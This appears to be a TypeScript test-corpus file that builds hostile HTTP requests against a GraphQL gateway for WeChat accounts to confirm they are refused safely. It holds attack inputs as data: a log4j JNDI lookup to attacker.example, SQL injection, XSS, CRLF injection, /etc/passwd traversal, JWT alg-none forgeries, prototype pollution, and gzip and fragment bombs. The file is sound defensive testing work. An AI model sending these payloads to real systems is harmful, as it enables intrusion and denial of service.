/**
 * The hostile corpus: requests an attacker (or a broken client) sends, as data. Each is sent over
 * real HTTP to a gateway with authentication on and the WeChat simulator behind it
 * (hostile-corpus.test.ts), which checks that none gets a 5xx, that the process survives them all,
 * that none of those refused reached WeChat, and that no response or log line contains a
 * credential.
 */
import { gzipSync } from 'node:zlib';

export interface HostileRequest {
  readonly method?: 'GET' | 'POST' | 'PUT' | 'DELETE' | 'PATCH' | 'OPTIONS';
  readonly path?: string;
  /** Sent as they are: no content type or credentials are added. */
  readonly headers?: Record<string, string>;
  readonly body?: string | Buffer;
}

export interface HostileCase {
  readonly category: string;
  readonly name: string;
  readonly request: HostileRequest;
  /**
   * `refused`: answered 4xx or with GraphQL errors, and nothing sent to WeChat.
   * `served`: a legitimate request hidden among the hostile ones (the control group): answered 200.
   */
  readonly expect: 'refused' | 'served';
}

/** The credentials and ids the corpus is built with. */
export interface CorpusInputs {
  /** An appid the restricted caller may act on, and an open appid. */
  readonly appid: string;
  readonly otherAppid: string;
  readonly openAppid: string;
  /** JWT: read and write on `appid` only. */
  readonly restrictedToken: string;
  /** JWT: read and write on every appid ("*"). */
  readonly starToken: string;
  /** JWT: read only, every appid. */
  readonly readOnlyToken: string;
  readonly expiredToken: string;
  readonly notYetValidToken: string;
  readonly wrongSecretToken: string;
  readonly unsignedToken: string;
  /** The good restricted token with its header changed to another algorithm, signature kept. */
  readonly algSwappedTokens: readonly string[];
  readonly apiKey: string;
}

const JSON_TYPE = { 'content-type': 'application/json' };

/** Appids, open appids and representation appids that must never reach a WeChat URL. */
export function hostileAppids(appid: string): readonly [string, string][] {
  return [
    ['empty', ''],
    ['ampersand: a second query parameter', `${appid}&access_token=stolen`],
    ['question mark', `${appid}?x=1`],
    ['hash', `${appid}#fragment`],
    ['percent-encoded NUL', `${appid}%00`],
    ['raw NUL', `${appid}\u0000`],
    ['path traversal', `${appid}/../../cgi-bin/token`],
    ['leading traversal', '/../cgi-bin/stable_token'],
    ['encoded traversal', '%2e%2e%2fcgi-bin%2ftoken'],
    ['Cyrillic look-alike (х)', appid.replace('x', '\u0445')],
    ['fullwidth look-alike', appid.replace(/[a-z0-9]/g, (c) => String.fromCharCode(c.charCodeAt(0) + 0xfee0))],
    ['zero-width joiner', `${appid.slice(0, 4)}\u200d${appid.slice(4)}`],
    ['right-to-left override', `\u202e${appid}`],
    ['trailing space', `${appid} `],
    ['CRLF header injection', `${appid}\r\nX-Injected: 1`],
    ['tab', `${appid}\t`],
    ['65 characters', 'w'.repeat(65)],
    ['30,000 characters', 'x'.repeat(30_000)],
    ['emoji', `${appid}\u{1F600}`],
    ['lone surrogate', `${appid}\ud800`],
    ['SQL injection', "' OR 1=1 --"],
    ['log4j lookup', '${jndi:ldap://attacker.example/a}'],
    ['HTML', '<script>alert(1)</script>'],
    ['dotless i', appid.replace('x', '\u0131')],
    ['ligature (NFKC folds to ff)', 'wx\ufb00'],
    ['JSON in a string', '{"appid":"wx1"}'],
  ];
}

export function buildHostileCorpus(inputs: CorpusInputs): HostileCase[] {
  const cases: HostileCase[] = [];
  const add = (category: string, name: string, request: HostileRequest, expect: HostileCase['expect'] = 'refused') =>
    cases.push({ category, name, request, expect });
  const bearer = (token: string) => ({ ...JSON_TYPE, authorization: `Bearer ${token}` });
  const star = bearer(inputs.starToken);
  const restricted = bearer(inputs.restrictedToken);
  const gql = (query: string, variables?: unknown, extra: object = {}) => JSON.stringify({ query, ...(variables === undefined ? {} : { variables }), ...extra });
  const READ = 'query($a: String!) { openAccount(appid: $a) { __typename } }';
  const UNBIND = 'mutation($a: String!, $o: String!) { unbindOpenAccount(appid: $a, openAppid: $o) { __typename } }';
  const BIND = 'mutation($a: String!, $o: String!) { bindOpenAccount(appid: $a, openAppid: $o) { __typename } }';
  const ENTITIES = 'query($r: [_Any!]!) { _entities(representations: $r) { ... on WeChatApp { openAccount { __typename } } } }';
  const { appid, openAppid } = inputs;

  // --- The control group: legitimate requests, served.
  add('control', 'a read the caller is entitled to', { headers: restricted, body: gql(READ, { a: appid }) }, 'served');
  add('control', 'the same read by API key', { headers: { ...JSON_TYPE, 'x-api-key': inputs.apiKey }, body: gql(READ, { a: appid }) }, 'served');
  add('control', 'a read by GET with the CSRF preflight header', {
    method: 'GET',
    path: `/graphql?query=${encodeURIComponent(`{ openAccount(appid: "${appid}") { __typename } }`)}`,
    headers: { authorization: `Bearer ${inputs.restrictedToken}`, 'apollo-require-preflight': 'true' },
  }, 'served');

  // --- Appids that are not appids, in every place an appid goes.
  for (const [name, value] of hostileAppids(appid)) {
    add('appid', `${name}: openAccount(appid) by a "*" caller`, { headers: star, body: gql(READ, { a: value }) });
    add('appid', `${name}: unbind(appid) by a restricted caller`, { headers: restricted, body: gql(UNBIND, { a: value, o: openAppid }) });
    add('appid', `${name}: bind(openAppid) by a "*" caller`, { headers: star, body: gql(BIND, { a: appid, o: value }) });
    add('appid', `${name}: an _entities representation`, { headers: star, body: gql(ENTITIES, { r: [{ __typename: 'WeChatApp', appid: value }] }) });
    add('appid', `${name}: inline in the document`, { headers: star, body: gql(`{ hasOpenAccount(appid: ${JSON.stringify(value)}) { __typename } }`) });
  }

  // --- Authentication.
  const authCases: [string, Record<string, string>][] = [
    ['no credentials', JSON_TYPE],
    ['an expired JWT', bearer(inputs.expiredToken)],
    ['a JWT not valid yet', bearer(inputs.notYetValidToken)],
    ['a JWT signed with another secret', bearer(inputs.wrongSecretToken)],
    ['an unsigned JWT (alg: none)', bearer(inputs.unsignedToken)],
    ...inputs.algSwappedTokens.map((token, i): [string, Record<string, string>] => [`a JWT with its alg swapped (${i})`, bearer(token)]),
    ['a JWT with its signature cut', bearer(inputs.restrictedToken.slice(0, inputs.restrictedToken.lastIndexOf('.') + 1))],
    ['a JWT with one signature byte changed', bearer(flipLast(inputs.restrictedToken))],
    ['a JWT with a payload that is not JSON', bearer(`${inputs.restrictedToken.split('.')[0]}.${Buffer.from('not json').toString('base64url')}.${inputs.restrictedToken.split('.')[2]}`)],
    ['a JWT of empty parts', bearer('..')],
    ['a JWT header that is not base64url', bearer('@@@.@@@.@@@')],
    ['four JWT parts', bearer(`${inputs.restrictedToken}.extra`)],
    ['a JWE-shaped token (five parts)', bearer('a.b.c.d.e')],
    ['an unknown API key', { ...JSON_TYPE, 'x-api-key': `${inputs.apiKey}0` }],
    ['an API key with a changed character', { ...JSON_TYPE, 'x-api-key': flipLast(inputs.apiKey) }],
    ['a truncated API key', bearer(inputs.apiKey.slice(0, 20))],
    ['Basic credentials', { ...JSON_TYPE, authorization: 'Basic YWRtaW46YWRtaW4=' }],
    ['a token without a scheme', { ...JSON_TYPE, authorization: inputs.restrictedToken }],
    ['Bearer and nothing else', { ...JSON_TYPE, authorization: 'Bearer' }],
    ['two bearer tokens', { ...JSON_TYPE, authorization: `Bearer ${inputs.restrictedToken} ${inputs.starToken}` }],
    ['a 9 KB bearer token', bearer('a'.repeat(9 * 1024))],
    ['a 20 KB Authorization header (over Node\'s header limit)', bearer('a'.repeat(20 * 1024))],
    ['a NUL in the token', bearer(`${inputs.restrictedToken.slice(0, 10)}%00${inputs.restrictedToken.slice(10)}`)],
  ];
  for (const [name, headers] of authCases) add('authentication', name, { headers, body: gql(READ, { a: appid }) });
  add('authentication', 'no credentials, a mutation', { headers: JSON_TYPE, body: gql(UNBIND, { a: appid, o: openAppid }) });
  add('authentication', 'an unsigned JWT claiming "*", a mutation', { headers: bearer(inputs.unsignedToken), body: gql(UNBIND, { a: appid, o: openAppid }) });

  // --- Authorization.
  add('authorization', 'another appid, read', { headers: restricted, body: gql(READ, { a: inputs.otherAppid }) });
  add('authorization', 'another appid, unbind', { headers: restricted, body: gql(UNBIND, { a: inputs.otherAppid, o: openAppid }) });
  add('authorization', 'another appid, _entities', { headers: restricted, body: gql(ENTITIES, { r: [{ __typename: 'WeChatApp', appid: inputs.otherAppid }] }) });
  add('authorization', 'another appid, create', { headers: restricted, body: gql(`mutation { createOpenAccount(appid: "${inputs.otherAppid}") { __typename } }`) });
  add('authorization', 'read-only token, unbind', { headers: bearer(inputs.readOnlyToken), body: gql(UNBIND, { a: appid, o: openAppid }) });
  add('authorization', 'read-only token, create', { headers: bearer(inputs.readOnlyToken), body: gql(`mutation { createOpenAccount(appid: "${appid}") { __typename } }`) });
  add('authorization', 'another appid through a success\'s app field (bind of an appid not held)', {
    headers: restricted,
    body: gql(`mutation { bindOpenAccount(appid: "${inputs.otherAppid}", openAppid: "${openAppid}") { ... on BindOpenAccountSuccess { app { openAccount { __typename } } } } }`),
  });
  add('authorization', 'an alias of a forbidden read', { headers: restricted, body: gql(`{ mine: openAccount(appid: "${inputs.otherAppid}") { __typename } }`) });

  // --- Bodies that are not a GraphQL request.
  const bodies: [string, string | Buffer][] = [
    ['truncated JSON', '{"query": '],
    ['JSON null', 'null'],
    ['a JSON string', '"{ __typename }"'],
    ['a JSON number', '42'],
    ['an empty object', '{}'],
    ['an empty body', ''],
    ['a query that is a number', '{"query": 5}'],
    ['a query that is null', '{"query": null}'],
    ['a query that is an object', '{"query": {"kind": "Document"}}'],
    ['an empty query', '{"query": ""}'],
    ['a syntax error', gql('mutation {')],
    ['an unterminated string', gql('{ openAccount(appid: "wx1) { __typename } }')],
    ['trailing garbage after JSON', `${gql('{ __typename }')} garbage`],
    ['two JSON objects', `${gql('{ __typename }')}${gql('{ __typename }')}`],
    ['a batch of two (batching is off)', `[${gql('{ __typename }')},${gql(READ, { a: appid })}]`],
    ['a batch of 1,000', `[${Array.from({ length: 1000 }, () => gql(READ, { a: appid })).join(',')}]`],
    ['an empty batch', '[]'],
    ['JSON nested 100,000 deep', `${'['.repeat(100_000)}${']'.repeat(100_000)}`],
    ['variables nested 5,000 deep', `{"query": ${JSON.stringify(READ)}, "variables": {"a": ${'['.repeat(5000)}${']'.repeat(5000)}}}`],
    ['__proto__ pollution', `{"__proto__": {"query": "{ __typename }", "isAdmin": true}, "query": ${JSON.stringify(READ)}, "variables": {"__proto__": {"a": "${appid}"}}}`],
    ['constructor.prototype pollution', `{"constructor": {"prototype": {"caller": "admin"}}, "query": ${JSON.stringify(READ)}}`],
    ['variables as a string', `{"query": ${JSON.stringify(READ)}, "variables": "{\\"a\\": \\"${appid}\\"}"}`],
    ['variables as a list', `{"query": ${JSON.stringify(READ)}, "variables": ["${appid}"]}`],
    ['extensions as a string', `{"query": ${JSON.stringify(READ)}, "extensions": "x"}`],
    ['an unknown persisted query', JSON.stringify({ extensions: { persistedQuery: { version: 1, sha256Hash: 'a'.repeat(64) } } })],
    ['a persisted query with a wrong hash', JSON.stringify({ query: READ, variables: { a: appid }, extensions: { persistedQuery: { version: 1, sha256Hash: 'b'.repeat(64) } } })],
    ['an operationName that is not in the document', gql(READ, { a: appid }, { operationName: 'Nope' })],
    ['two operations and no operationName', gql(`query A { __typename } query B { openAccount(appid: "${appid}") { __typename } }`)],
    ['an operationName that is an object', gql(READ, { a: appid }, { operationName: { $ne: null } })],
    ['a subscription', gql('subscription { openAccount }')],
    ['a UTF-8 BOM before JSON', Buffer.concat([Buffer.from([0xef, 0xbb, 0xbf]), Buffer.from(gql(READ, { a: 'wx\u0000' }))])],
  ];
  for (const [name, body] of bodies) add('body', name, { headers: restricted, body });

  // --- Invalid UTF-8 and odd encodings.
  const bytes = (...parts: (string | number[])[]) => Buffer.concat(parts.map((p) => (typeof p === 'string' ? Buffer.from(p) : Buffer.from(p))));
  const invalid: [string, Buffer][] = [
    ['0xFF in the query', bytes('{"query": "{ openAccount(appid: \\"wx', [0xff, 0xfe], '\\") { __typename } }"}')],
    ['0xFF in a variable', bytes(`{"query": ${JSON.stringify(READ)}, "variables": {"a": "`, [0xff], '"}}')],
    ['an overlong encoding of "/"', bytes(`{"query": ${JSON.stringify(READ)}, "variables": {"a": "wx`, [0xc0, 0xaf], '.."}}')],
    ['a truncated multi-byte sequence', bytes(`{"query": ${JSON.stringify(READ)}, "variables": {"a": "wx`, [0xe2, 0x82], '"}}')],
    ['an encoded surrogate (CESU-8)', bytes(`{"query": ${JSON.stringify(READ)}, "variables": {"a": "wx`, [0xed, 0xa0, 0x80], '"}}')],
    ['invalid UTF-8 in a JSON key', bytes('{"qu', [0xff], `ery": ${JSON.stringify(READ)}}`)],
    ['UTF-16 bytes sent as JSON', Buffer.from(gql(READ, { a: appid }), 'utf16le')],
    ['bytes of a PNG', bytes([0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a, 0, 0, 0, 0x0d])],
  ];
  for (const [name, body] of invalid) add('utf-8', name, { headers: restricted, body });

  // --- Content types and encodings.
  const auth = { authorization: `Bearer ${inputs.restrictedToken}` };
  const typed: [string, Record<string, string>, string | Buffer][] = [
    ['no content type', auth, gql(READ, { a: appid })],
    ['text/plain (a CSRF simple request)', { ...auth, 'content-type': 'text/plain' }, gql(UNBIND, { a: appid, o: openAppid })],
    ['a form post (CSRF)', { ...auth, 'content-type': 'application/x-www-form-urlencoded' }, `query=${encodeURIComponent(UNBIND)}`],
    ['multipart/form-data (CSRF)', { ...auth, 'content-type': 'multipart/form-data; boundary=x' }, `--x\r\nContent-Disposition: form-data; name="query"\r\n\r\n${UNBIND}\r\n--x--`],
    ['application/graphql', { ...auth, 'content-type': 'application/graphql' }, `{ openAccount(appid: "${appid}") { __typename } }`],
    ['JSON with charset latin1', { ...auth, 'content-type': 'application/json; charset=latin1' }, gql(READ, { a: appid })],
    ['JSON with charset utf-16', { ...auth, 'content-type': 'application/json; charset=utf-16' }, gql(READ, { a: appid })],
    ['JSON with an unknown charset', { ...auth, 'content-type': 'application/json; charset=x-evil' }, gql(READ, { a: appid })],
    ['a content type of garbage', { ...auth, 'content-type': '\u00ff/\u00ff' }, gql(READ, { a: appid })],
    ['XML', { ...auth, 'content-type': 'application/xml' }, '<?xml version="1.0"?><!DOCTYPE x [<!ENTITY a "aaaa">]><x>&a;</x>'],
    ['gzip that is not gzip', { ...JSON_TYPE, ...auth, 'content-encoding': 'gzip' }, gql(READ, { a: appid })],
    ['a gzip bomb (10 MB of zeros)', { ...JSON_TYPE, ...auth, 'content-encoding': 'gzip' }, gzipBomb()],
    ['an unsupported content encoding', { ...JSON_TYPE, ...auth, 'content-encoding': 'compress' }, gql(READ, { a: appid })],
    ['a body over the size limit', { ...JSON_TYPE, ...auth }, gql(`{ __typename } # ${'x'.repeat(200 * 1024)}`)],
  ];
  for (const [name, headers, body] of typed) add('content-type', name, { headers, body });

  // --- Methods and paths.
  const preflight = { ...auth, 'apollo-require-preflight': 'true' };
  add('method', 'a mutation by GET', { method: 'GET', path: `/graphql?query=${encodeURIComponent(`mutation { unbindOpenAccount(appid: "${appid}", openAppid: "${openAppid}") { __typename } }`)}`, headers: preflight });
  add('method', 'a GET read without the CSRF preflight header', { method: 'GET', path: `/graphql?query=${encodeURIComponent(READ)}&variables=${encodeURIComponent(JSON.stringify({ a: appid }))}`, headers: auth });
  add('method', 'a GET with variables that are not JSON', { method: 'GET', path: `/graphql?query=${encodeURIComponent(READ)}&variables=%7Bnot`, headers: preflight });
  add('method', 'a GET with a repeated query parameter', { method: 'GET', path: `/graphql?query=${encodeURIComponent(READ)}&query=x`, headers: preflight });
  add('method', 'PUT', { method: 'PUT', headers: restricted, body: gql(READ, { a: appid }) });
  add('method', 'DELETE', { method: 'DELETE', headers: restricted, body: gql(READ, { a: appid }) });
  add('method', 'PATCH', { method: 'PATCH', headers: restricted, body: gql(READ, { a: appid }) });
  add('method', 'an unknown path', { method: 'POST', path: '/admin', headers: restricted, body: gql(READ, { a: appid }) });
  add('method', 'a traversal path', { method: 'GET', path: '/graphql/../../etc/passwd', headers: auth });
  add('method', 'an encoded traversal path', { method: 'GET', path: '/%2e%2e/%2e%2e/etc/passwd', headers: auth });

  // --- Wrong variable types and shapes.
  const variableCases: [string, unknown][] = [
    ['a number', 12],
    ['null', null],
    ['true', true],
    ['a list', [appid]],
    ['an object', { $ne: null }],
    ['a huge number', 1e308],
    ['missing', undefined],
  ];
  for (const [name, value] of variableCases) {
    add('variables', `appid is ${name}`, { headers: restricted, body: gql(READ, value === undefined ? {} : { a: value }) });
  }
  const representationCases: [string, unknown][] = [
    ['a list of null', [null]],
    ['a list of strings', [appid]],
    ['without __typename', [{ appid }]],
    ['of another type', [{ __typename: 'Query', appid }]],
    ['with a numeric appid', [{ __typename: 'WeChatApp', appid: 12 }]],
    ['with 501 items', Array.from({ length: 501 }, () => ({ __typename: 'WeChatApp', appid }))],
    ['with a __proto__ key', [JSON.parse(`{"__proto__": {"appid": "${appid}"}, "__typename": "WeChatApp"}`)]],
  ];
  for (const [name, value] of representationCases) add('variables', `representations ${name}`, { headers: star, body: gql(ENTITIES, { r: value }) });
  // GraphQL's input coercion makes a single value a list of one: a valid request.
  add('variables', 'representations not a list (coerced to a list of one)', { headers: star, body: gql(ENTITIES, { r: { __typename: 'WeChatApp', appid } }) }, 'served');

  // --- Huge strings and lists.
  add('size', 'a 90 KB appid variable (under the body limit)', { headers: star, body: gql(READ, { a: 'w'.repeat(90 * 1024) }) });
  add('size', 'a 90 KB operationName', { headers: star, body: gql(READ, { a: appid }, { operationName: 'x'.repeat(90 * 1024) }) });
  // Comments and commas are not tokens: harmless under the body limit, and served.
  add('size', 'a 90 KB comment', { headers: star, body: gql(`# ${'x'.repeat(90 * 1024)}\n{ __typename }`) }, 'served');
  add('size', 'a 90 KB field name', { headers: star, body: gql(`{ ${'f'.repeat(90 * 1024)} }`) });
  add('size', 'a 90 KB block string argument', { headers: star, body: gql(`{ openAccount(appid: """${'x'.repeat(90 * 1024)}""") { __typename } }`) });
  add('size', '20,000 unused variables', { headers: star, body: gql(READ, Object.fromEntries(Array.from({ length: 20_000 }, (_, i) => [`v${i}`, i]))) });
  add('size', '2,000 representations of one appid', { headers: star, body: gql(ENTITIES, { r: Array.from({ length: 2000 }, () => ({ __typename: 'WeChatApp', appid })) }) });
  add('size', 'a list of 10,000 nulls as a variable', { headers: star, body: gql(READ, { a: Array.from({ length: 10_000 }, () => null) }) });

  // --- Depth, aliases, fragments, directives, cost, tokens.
  const nested = (depth: number) => {
    let selection = '__typename';
    for (let i = 0; i < depth; i += 1) selection = `app { openAccount { ... on OpenAccount { appid ${selection} } } }`;
    return `mutation { unbindOpenAccount(appid: "${appid}", openAppid: "${openAppid}") { ... on UnbindOpenAccountSuccess { ${selection} } } }`;
  };
  add('limits', 'depth 12 through app.openAccount', { headers: restricted, body: gql(nested(6)) });
  add('limits', 'depth 200', { headers: restricted, body: gql(nested(100)) });
  add('limits', '31 aliases of a read (limit 30)', { headers: star, body: gql(`{ ${Array.from({ length: 31 }, (_, i) => `a${i}: openAccount(appid: "${appid}") { __typename }`).join(' ')} }`) });
  add('limits', '1,000 aliases of __typename', { headers: star, body: gql(`{ ${Array.from({ length: 1000 }, (_, i) => `a${i}: __typename`).join(' ')} }`) });
  add('limits', '100 aliased unbinds in one mutation', { headers: star, body: gql(`mutation { ${Array.from({ length: 100 }, (_, i) => `u${i}: unbindOpenAccount(appid: "${appid}", openAppid: "${openAppid}") { __typename }`).join(' ')} }`) });
  add('limits', 'a fragment cycle', { headers: star, body: gql('query { ...A } fragment A on Query { ...B } fragment B on Query { ...A }') });
  add('limits', 'a self-referencing fragment', { headers: star, body: gql('query { ...A } fragment A on Query { __typename ...A }') });
  add('limits', 'a fragment bomb (each spreads the previous twice, 30 levels)', { headers: star, body: gql(fragmentBomb(30, appid)) });
  add('limits', 'a fragment bomb through inline fragments', { headers: star, body: gql(`{ ${'... on Query { '.repeat(200)}__typename${' }'.repeat(200)} }`) });
  add('limits', '100 fields of one fragment spread 100 times', { headers: star, body: gql(`{ ${Array.from({ length: 100 }, () => '...F').join(' ')} } fragment F on Query { ${Array.from({ length: 100 }, (_, i) => `f${i}: __typename`).join(' ')} }`) });
  add('limits', '1,000 @include directives on one field', { headers: star, body: gql(`{ __typename ${'@include(if: true) '.repeat(1000)}}`) });
  add('limits', '50 @skip directives', { headers: star, body: gql(`{ openAccount(appid: "${appid}") ${'@skip(if: false) '.repeat(50)}{ __typename } }`) });
  add('limits', 'an unknown directive', { headers: star, body: gql(`{ openAccount(appid: "${appid}") @evil { __typename } }`) });
  add('limits', '5,000 tokens of __typename', { headers: star, body: gql(`{ ${'__typename '.repeat(5000)}}`) });
  add('limits', '3,000 commas (insignificant, not tokens)', { headers: star, body: gql(`{ openAccount(appid: "${appid}"${','.repeat(3000)}) { __typename } }`) }, 'served');
  add('limits', '2,001 tokens of field arguments', { headers: star, body: gql(`{ openAccount(appid: "${appid}") { __typename } ${Array.from({ length: 400 }, () => 'openAccount(appid: "x")').join(' ')} }`) });
  add('limits', 'an introspection cycle (fields.type.fields…)', { headers: star, body: gql(`{ __schema { types { ${'fields { type { '.repeat(10)}name${' } }'.repeat(10)} } } }`) });
  add('limits', 'an introspection cycle through ofType and interfaces', { headers: star, body: gql(`{ __type(name: "Query") { ${'interfaces { possibleTypes { '.repeat(8)}name${' } }'.repeat(8)} } }`) });
  add('limits', 'field suggestions ("did you mean")', { headers: star, body: gql('{ openAcount(appid: "wx1") { __typename } }') });
  add('limits', '1,000 operations in one document', { headers: star, body: gql(Array.from({ length: 1000 }, (_, i) => `query Q${i} { __typename }`).join(' '), undefined, { operationName: 'Q0' }) });
  add('limits', 'a variable definition list of 500', { headers: star, body: gql(`query(${Array.from({ length: 500 }, (_, i) => `$v${i}: String`).join(' ')}) { openAccount(appid: "${appid}") { __typename } }`) });

  return cases;
}

/** A document whose fragments each spread the previous one twice: 2^levels selections. */
function fragmentBomb(levels: number, appid: string): string {
  const fragments = [`fragment F0 on Query { openAccount(appid: "${appid}") { __typename } }`];
  for (let i = 1; i <= levels; i += 1) fragments.push(`fragment F${i} on Query { ...F${i - 1} a${i}: openAccount(appid: "${appid}") { __typename } ...F${i - 1} }`);
  return `{ ...F${levels} } ${fragments.join(' ')}`;
}

function flipLast(text: string): string {
  const last = text.at(-2) === 'A' ? 'B' : 'A';
  return `${text.slice(0, -2)}${last}${text.slice(-1)}`;
}

function gzipBomb(): Buffer {
  return gzipSync(Buffer.alloc(10 * 1024 * 1024));
}
